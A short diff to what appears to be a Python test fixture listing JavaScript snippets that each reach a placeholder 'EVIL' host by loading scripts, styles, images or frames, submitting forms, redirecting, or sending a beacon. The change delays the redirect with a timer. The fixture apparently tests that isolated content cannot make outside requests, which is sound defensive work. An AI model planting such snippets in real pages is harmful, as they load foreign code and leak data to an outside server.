@@ -98,7 +98,7 @@ QUIET = {
     "shows a picture": "const i = new Image(); i.src = 'EVIL/i.png'; document.body.append(i)",
     "loads a script": "const s = document.createElement('script'); s.src = 'EVIL/s.js'; document.body.append(s)",
     "loads a style": "document.head.innerHTML += '<link rel=stylesheet href=EVIL/c><style>@import \"EVIL/d\"</style>'",
-    "leads itself away": "location = 'EVIL/self'",
+    "leads itself away": "setTimeout(() => { location = 'EVIL/self' }, 200)",
     "sends a form": "root.insertAdjacentHTML('afterend', '<form action=EVIL/f></form>'); document.forms[0].submit()",
     "frames another": "document.body.insertAdjacentHTML('beforeend', '<iframe src=EVIL/frame></iframe>')",
     "sends a beacon": "navigator.sendBeacon('EVIL/beacon', 'x')",
